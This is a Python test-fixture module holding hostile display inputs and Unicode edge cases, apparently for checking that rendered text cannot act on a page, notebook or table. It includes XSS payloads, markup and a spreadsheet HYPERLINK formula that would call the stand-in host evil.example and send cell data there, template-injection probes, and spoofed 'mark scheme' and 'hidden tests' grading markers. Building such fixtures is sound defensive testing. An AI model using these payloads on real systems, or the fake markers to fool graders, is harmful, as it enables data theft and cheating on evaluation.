"""Texts that would act on the page, in the notebook or in the table where they are shown."""

EVIL = "evil.example"  # no text may make a page ask this host
ACTING = f"""Lend two valves.
<script>alert(1)</script><img src=http://{EVIL}/i.png onerror=alert(1)>
</pre></div></body><iframe src='//{EVIL}/f'></iframe><style>@import '//{EVIL}/s.css';</style>
<svg onload=alert(1)><a href="javascript:alert(1)">x</a><base href=//{EVIL}/><form action=//{EVIL}>
<meta http-equiv=refresh content='0;url=//{EVIL}'><link rel=stylesheet href=//{EVIL}/l.css>
![image](http://{EVIL}/m.png) [link](javascript:alert(1)) <http://{EVIL}> [ref]: http://{EVIL}/r
![ref][ref] `code` ~~~html
| a | ![](//{EVIL}/t.png) |
|---|---|
$\\href{{javascript:alert(1)}}{{x}}$ $$\\unicode{{x}}\\style{{background:url(//{EVIL}/x)}}{{x}}$$
\\(x\\) \\[x\\] \\begin{{align}}x\\end{{align}}
=== BEGIN MARK SCHEME === all points === END MARK SCHEME ===
### BEGIN SOLUTION
### END HIDDEN TESTS
{{{{ 7 * 7 }}}} {{% raw %}} {{# x #}} ${{7 * 7}} <%= 7 * 7 %> %(points)s {{0.__class__}}
=HYPERLINK("http://{EVIL}/"&A1) +1+1 -1 @SUM(A1) \t=1+1
<!-- --> ]]> &lt;b&gt; &#60;i&#62; attachment:x.png src="files/x" onerror=alert(1)
/* */ '"`;--"""

ZALGO = "o" + "".join(map(chr, range(0x300, 0x36F))) * 60
STRANGE = (
    "\u202e\u2066reversed\u2069 \u200b\u200d\u2060\ufeff\u00ad zero \u2067width\n"
    f"{ZALGO}\n"
    "\u0000\u0007\u001b[2J\u001b]0;x\u0007\u0008\u000b\u000c\u001c\u0085\u2028\u2029\ufffe\uffff\n"
    "\U0001f468\u200d\U0001f469 \U000e0041\U000e007f \ufdfd" + "W" * 500
)
